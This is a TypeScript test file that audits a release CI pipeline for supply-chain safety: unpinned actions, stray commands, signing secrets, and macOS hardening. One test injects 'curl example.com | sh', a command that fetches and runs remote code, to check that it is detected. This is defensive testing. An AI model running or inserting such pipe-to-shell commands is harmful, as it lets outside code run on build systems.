import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { macOptions } from '../../build/dist/mac/options.mjs'
import { missingKeys } from '../../build/dist/sign/signer.mjs'

const root = join(import.meta.dirname, '../..')
const pipeline = readFileSync(join(root, '.github/workflows/release.yml'), 'utf8')
const { scripts } = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { scripts: Record<string, string> }

const lines = (text: string, key: string) =>
  [...text.matchAll(new RegExp(`^\\s*(?:- )?${key}: (.*)$`, 'gm'))].map(([, value]) => value!.trim())

/** The commands that no script of ours runs, and the steps that are taken from a name that can be moved. */
function strangers(text: string) {
  const commands = lines(text, 'run').filter((command) => {
    const [, name] = /^npm (?:run )?([\w-]+)(?: -- [\w ./${}-]+)?$/.exec(command) ?? []
    return !name || !Object.hasOwn(scripts, name)
  })
  const steps = lines(text, 'uses').filter((step) => !/^[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(step))
  return [...commands, ...steps]
}

test('the release pipeline runs the same commands as anybody does, and steps that cannot be exchanged', () => {
  expect(lines(pipeline, 'run').length).toBeGreaterThan(5)
  expect(lines(pipeline, 'uses').length).toBeGreaterThan(5)
  expect(strangers(pipeline)).toEqual([])
})

test('another command, or a step by a name that can be moved, would be seen', () => {
  const changed = pipeline
    .replace('run: npm test', 'run: |\n          curl example.com | sh')
    .replace(/(actions\/setup-node)@[0-9a-f]{40} # v4\.4\.0/, '$1@v4')
    .replace('npm run verify', 'npm run verifies')

  expect(strangers(changed)).toEqual(['|', expect.stringContaining('npm run verifies'), 'actions/setup-node@v4'])
})

test('it takes the official Electron only, gives the signer all it needs, and signs only where somebody has approved', () => {
  const given = lines(pipeline, '(?:FYRARUM_SIGN_\\w+)').length
  const names = [...pipeline.matchAll(/^\s+(FYRARUM_SIGN\w+): (.+)$/gm)].map(([, name, value]) => [name!, value!])
  const env = Object.fromEntries(names)
  const jobs = pipeline.split(/^ {2}(?=[\w-]+:\n {4})/m)

  expect(pipeline).toContain("FYRARUM_OFFICIAL_ELECTRON: '1'")
  expect(given).toBeGreaterThan(10)
  expect(missingKeys({ ...env, FYRARUM_SIGNER: 'pkcs11' })).toEqual([])
  expect(missingKeys({ ...env, FYRARUM_SIGNER: 'command' })).toEqual([])
  expect(missingKeys({ ...env, FYRARUM_SIGNER: 'command', FYRARUM_SIGN_ROOTS_TEXT: '' })).toEqual([
    'FYRARUM_SIGN_ROOTS',
  ])
  for (const job of jobs.filter((text) => text.includes('secrets.'))) expect(job).toContain('environment: release\n')
  expect(jobs.filter((text) => text.includes('secrets.'))).toHaveLength(1)
  expect(pipeline).toContain('permissions: {}')
})

test('a release for macOS is signed, hardened and notarized or not made; nothing is asked of the system but to run V8', () => {
  const { entitlements, ...options } = macOptions({ isRelease: true })
  const asked = [...readFileSync(entitlements, 'utf8').matchAll(/<key>(.*)<\/key>/g)].map(([, key]) => key)

  expect(options).toMatchObject({ hardenedRuntime: true, notarize: true, forceCodeSigning: true })
  expect(options).not.toHaveProperty('identity')
  expect(macOptions({ isRelease: false })).toMatchObject({ hardenedRuntime: true, notarize: false, identity: null })
  expect(asked).toEqual(['com.apple.security.cs.allow-jit'])
})
